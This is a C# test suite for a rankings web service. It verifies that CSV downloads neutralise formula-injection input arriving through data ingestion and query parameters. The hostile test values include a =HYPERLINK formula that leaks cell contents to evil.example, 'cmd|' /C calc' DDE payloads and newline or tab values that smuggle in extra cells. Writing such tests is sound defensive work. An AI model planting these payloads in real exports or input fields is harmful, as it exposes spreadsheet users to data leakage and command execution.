using System.Globalization;
using System.Net.Http.Headers;
using System.Text.Json;
using System.Text.RegularExpressions;
using RankingsWeb.Auth;
using RankingsWeb.Data.Queries;
using RankingsWeb.Tests.TestInfrastructure;

namespace RankingsWeb.Tests.Web.Api;

/// <summary>
/// Formula injection (OWASP "CSV Injection"): hostile names and ids sent through ingestion, and hostile query
/// parameters, must come out of every CSV download as inert text cells, one row per item.
/// </summary>
public partial class CsvInjectionTests : IClassFixture<CsvInjectionTests.HostileApp>
{
    public static readonly string[] HostileTitles =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=tab",
        "\r=cr",
        "quote \"inside\", comma; semi",
        "line\nbreak=1",
    ];

    /// <summary>Sent as an extra query parameter on every download; it is echoed in the citation line.</summary>
    private const string HostileQuery = "&utm=1,=HYPERLINK(%22http://evil.example/%22)%0D%0A=cmd;@SUM(1)%09-2";

    public sealed class HostileApp : RankingsAppFactory, IAsyncLifetime
    {
        public HttpClient Analyst { get; private set; } = null!;
        public int Accepted { get; private set; }
        public int Rejected { get; private set; }
        public int Malformed { get; private set; }

        public async Task InitializeAsync()
        {
            var at = DateTimeOffset.UtcNow.AddDays(-1);
            var records = new List<TestRecord>();
            for (var i = 0; i < HostileTitles.Length; i++)
                records.Add(new TestRecord($"t-{i}", at.AddMinutes(i), "openai/gpt-4o", 100 + i, 10, AppTitle: HostileTitles[i]));
            records.Add(new TestRecord("=id", at, "-evil/x:free", 50, 5, Category: "-1", Provider: "+Evil", AppUrl: "https://evil.example/=cmd"));
            records.Add(new TestRecord("-id", at.AddDays(-1), "-evil/x", 40, 5, Category: "-1"));
            var body = TestRecord.Ndjson(records)
                       + "=HYPERLINK(\"http://evil.example/\")\n"        // malformed JSON: its raw text is a formula
                       + "-1+1\n"                                           // not an object
                       + "@SUM(1)\n"                                        // malformed JSON
                       + "{\"id\":\"=cmd|' /C calc'!A0\",\"created_at\":\"2026-11-20T10:00:00Z\",\"model\":\"@bad\",\"tokens_prompt\":1,\"tokens_completion\":1}\n"
                       + "{\"id\":\"\\t-x\\r\\n=y\",\"created_at\":\"2026-11-20T10:00:00Z\",\"model\":\"=bad\",\"tokens_prompt\":1,\"tokens_completion\":1}\n";
            var answer = await IngestClient().PostNdjsonAsync(body);
            Accepted = answer.GetProperty("accepted").GetInt32();
            Rejected = answer.GetProperty("rejected").GetArrayLength();
            Malformed = answer.GetProperty("rejected").EnumerateArray().Count(r => r.GetProperty("error").GetString()!.StartsWith("malformed JSON"));
            Assert.Equal(records.Count, Accepted);
            Assert.Equal(5, Rejected);
            await CreateClient().WaitForPendingZeroAsync(Accepted);
            await this.CreateUserAsync("csv@rankings.test", "csv-analyst-password-1", Roles.Analyst);
            Analyst = await this.SignedInAsync("csv@rankings.test", "csv-analyst-password-1");
        }

        Task IAsyncLifetime.DisposeAsync() => Task.CompletedTask;
    }

    private readonly HostileApp _app;

    public CsvInjectionTests(HostileApp app) => _app = app;

    private static async Task<(List<string[]> Rows, HttpResponseMessage Response)> CsvAsync(HttpClient client, string url)
    {
        var response = await client.GetAsync(url);
        var text = await response.Content.ReadAsStringAsync();
        Assert.True(response.IsSuccessStatusCode, $"GET {url}: {(int)response.StatusCode} {text}");
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        AssertSafeFileName(response.Content.Headers.ContentDisposition);
        var rows = CsvText.Parse(text);
        // The citation line is one cell, a comment; nothing of the query can start another cell or row.
        Assert.True(rows.Count >= 2, $"GET {url}: no header");
        Assert.Single(rows[0]);
        Assert.StartsWith("# Source: RankingsWeb", rows[0][0]);
        foreach (var cell in rows.Skip(2).SelectMany(r => r)) Assert.DoesNotContain("# Source", cell);
        return (rows, response);
    }

    private static void AssertSafeFileName(ContentDispositionHeaderValue? disposition)
    {
        Assert.NotNull(disposition);
        Assert.Equal("attachment", disposition.DispositionType);
        Assert.Matches(SafeFileName(), disposition.FileName!.Trim('"'));
    }

    [GeneratedRegex("^[a-z0-9._-]+$")]
    private static partial Regex SafeFileName();

    /// <summary>Checks every row against the header: the same number of cells, text columns neutralised, numeric columns numbers.</summary>
    private static void AssertCells(List<string[]> rows, string url, params string[] textColumns)
    {
        var header = rows[1];
        foreach (var h in header) CsvText.AssertTextCell(h, $"{url} header");
        for (var r = 2; r < rows.Count; r++)
        {
            Assert.True(rows[r].Length == header.Length, $"{url} row {r}: {rows[r].Length} cells, header has {header.Length}");
            for (var c = 0; c < header.Length; c++)
            {
                var where = $"{url} row {r} column {header[c]}";
                if (textColumns.Contains(header[c])) CsvText.AssertTextCell(rows[r][c], where);
                else if (header[c] is not ("bucket" or "received_at")) CsvText.AssertNumberCell(rows[r][c], where);
            }
        }
    }

    [Theory]
    [InlineData("apps", true)]
    [InlineData("apps", false)]
    [InlineData("models", true)]
    [InlineData("models", false)]
    [InlineData("authors", true)]
    [InlineData("categories", true)]
    [InlineData("providers", true)]
    [InlineData("variants", true)]
    public async Task RankingsCsv_HostileNamesAndQuery_EveryCellNeutralisedAndOneRowPerItem(string dimension, bool hostileQuery)
    {
        var client = _app.CreateClient();
        var url = $"/api/v1/rankings/{dimension}?period=all&limit=1000&format=csv{(hostileQuery ? HostileQuery : "")}";
        var (rows, _) = await CsvAsync(client, url);
        var json = await client.GetJsonAsync($"/api/v1/rankings/{dimension}?period=all&limit=1000");
        var items = json.GetProperty("items").EnumerateArray().ToList();
        Assert.Equal(items.Count + 2, rows.Count);
        Assert.Equal("rank,key,name,tokens", string.Join(',', rows[1].Take(4)));
        AssertCells(rows, url, "key", "name");
        for (var i = 0; i < items.Count; i++)
        {
            Assert.Equal(CsvText.Neutralised(items[i].GetProperty("key").GetString()!), rows[i + 2][1]);
            Assert.Equal(CsvText.Neutralised(items[i].GetProperty("name").GetString()!), rows[i + 2][2]);
            Assert.Equal(items[i].GetProperty("tokens").GetInt64().ToString(CultureInfo.InvariantCulture), rows[i + 2][3]);
        }
        if (dimension == "apps")
        {
            // Every hostile title is an app's name, and each comes out neutralised, exactly once.
            foreach (var title in HostileTitles) Assert.Single(rows.Skip(2), r => r[2] == CsvText.Neutralised(DisplayText.Clean(title)));
        }
    }

    [Theory]
    [InlineData("apps", true)]
    [InlineData("models", true)]
    [InlineData("models", false)]
    [InlineData("categories", true)]
    public async Task SeriesCsv_HostileKeysAndQuery_HeaderNeutralisedAndOneRowPerBucket(string dimension, bool hostileQuery)
    {
        var client = _app.CreateClient();
        var url = $"/api/v1/series/{dimension}?period=all&interval=day&top=100&format=csv{(hostileQuery ? HostileQuery : "")}";
        var (rows, _) = await CsvAsync(client, url);
        var json = await client.GetJsonAsync($"/api/v1/series/{dimension}?period=all&interval=day&top=100");
        Assert.Equal(json.GetProperty("buckets").GetArrayLength() + 2, rows.Count);
        var keys = json.GetProperty("series").EnumerateArray().Select(s => CsvText.Neutralised(s.GetProperty("key").GetString()!)).ToList();
        Assert.Equal(["bucket", .. keys], rows[1]);
        AssertCells(rows, url);
    }

    [Fact]
    public async Task TotalsAndRankHistoryCsv_HostileQuery_CitationIsOneCell()
    {
        var client = _app.CreateClient();
        var totals = $"/api/v1/totals?period=all&interval=day&format=csv{HostileQuery}";
        var (rows, _) = await CsvAsync(client, totals);
        var json = await client.GetJsonAsync("/api/v1/totals?period=all&interval=day");
        Assert.Equal(json.GetProperty("buckets").GetArrayLength() + 2, rows.Count);
        AssertCells(rows, totals);

        var history = $"/api/v1/rank-history/models?key=-evil/x&period=all&interval=day&format=csv{HostileQuery}";
        (rows, _) = await CsvAsync(client, history);
        json = await client.GetJsonAsync("/api/v1/rank-history/models?key=-evil/x&period=all&interval=day");
        Assert.Equal(json.GetProperty("buckets").GetArrayLength() + 2, rows.Count);
        AssertCells(rows, history);
    }

    [Theory]
    [InlineData("group=apps&sub=models", true)]
    [InlineData("group=apps&sub=models", false)]
    [InlineData("group=models&sub=categories&interval=day", true)]
    [InlineData("group=authors&sub=providers", true)]
    public async Task ExplorerExport_HostileNamesAndQuery_EveryCellNeutralised(string query, bool hostileQuery)
    {
        var url = $"/analytics/export?{query}&period=all&top=100&format=csv{(hostileQuery ? HostileQuery : "")}";
        var (rows, _) = await CsvAsync(_app.Analyst, url);
        Assert.Equal("rank,group,group_name,unlisted,sub_group,sub_group_name,bucket", string.Join(',', rows[1].Take(7)));
        AssertCells(rows, url, "group", "group_name", "unlisted", "sub_group", "sub_group_name");
        using var response = await _app.Analyst.GetAsync($"/analytics/export?{query}&period=all&top=100&format=json");
        var json = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("rows").EnumerateArray().ToList();
        Assert.Equal(json.Count + 2, rows.Count);
        for (var i = 0; i < json.Count; i++)
        {
            Assert.Equal(CsvText.Neutralised(json[i].GetProperty("group_name").GetString()!), rows[i + 2][2]);
            Assert.Equal(CsvText.Neutralised(json[i].GetProperty("sub_group_name").GetString() ?? ""), rows[i + 2][5]);
        }
        if (query.StartsWith("group=apps", StringComparison.Ordinal))
        {
            foreach (var title in HostileTitles) Assert.Contains(rows.Skip(2), r => r[2] == CsvText.Neutralised(DisplayText.Clean(title)));
        }
    }

    [Fact]
    public async Task RejectedCsv_HostileIdsAndRawLines_EveryCellNeutralised()
    {
        var url = "/analytics/ingestion/rejected.csv";
        var (rows, _) = await CsvAsync(_app.Analyst, url);
        Assert.Equal(_app.Rejected + 2, rows.Count);
        Assert.Equal("id,received_at,batch_id,batch_source,line,record_id,error,raw", string.Join(',', rows[1]));
        AssertCells(rows, url, "batch_source", "record_id", "error", "raw");
        Assert.Contains(rows.Skip(2), r => r[7] == "'=HYPERLINK(\"http://evil.example/\")");
        Assert.Contains(rows.Skip(2), r => r[7] == "'-1+1");
        Assert.Contains(rows.Skip(2), r => r[7] == "'@SUM(1)");
        Assert.Contains(rows.Skip(2), r => r[5] == "'=cmd|' /C calc'!A0");
        Assert.Contains(rows.Skip(2), r => r[5] == "'\t-x\r\n=y");
    }

    [Theory]
    [InlineData("malformed JSON")]
    [InlineData("x\n=HYPERLINK(\"http://evil.example/\"),=cmd|' /C calc'!A0;@SUM(1)")]
    [InlineData("\r\n-2+3")]
    public async Task RejectedCsv_HostileReasonParameter_CannotAddARowOrCell(string reason)
    {
        var url = "/analytics/ingestion/rejected.csv?reason=" + Uri.EscapeDataString(reason);
        var (rows, _) = await CsvAsync(_app.Analyst, url);
        Assert.Equal((reason == "malformed JSON" ? _app.Malformed : 0) + 2, rows.Count);
        AssertCells(rows, url, "batch_source", "record_id", "error", "raw");
    }
}
